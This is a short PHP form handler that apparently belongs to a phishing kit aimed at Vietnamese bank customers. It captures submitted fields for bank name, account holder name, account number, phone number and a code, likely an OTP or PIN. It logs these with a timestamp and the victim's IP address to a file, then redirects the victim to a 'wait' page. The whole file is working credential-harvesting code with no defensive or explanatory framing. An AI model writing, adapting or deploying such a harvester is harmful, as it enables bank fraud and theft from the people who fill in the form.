<?php
require __DIR__ . '/config.php';
$typed = fn (string $field): string => is_string($_POST[$field] ?? null) ? $_POST[$field] : '';
$cut = fn (string $field): string => substr(str_replace(['|', "\r", "\n"], ' ', $typed($field)), 0, 80);
$fields = array_map($cut, ['nganhang', 'ten', 'tk', 'sdt', 'ma']);
$line = implode('|', [date('Y-m-d H:i:s'), $_SERVER['REMOTE_ADDR'], ...$fields]);
if ($_SERVER['REQUEST_METHOD'] === 'POST' && filesize($LOG) < 200_000) {
    file_put_contents($LOG, $line . "\n", FILE_APPEND | LOCK_EX);
}
header('Location: /cho.html');
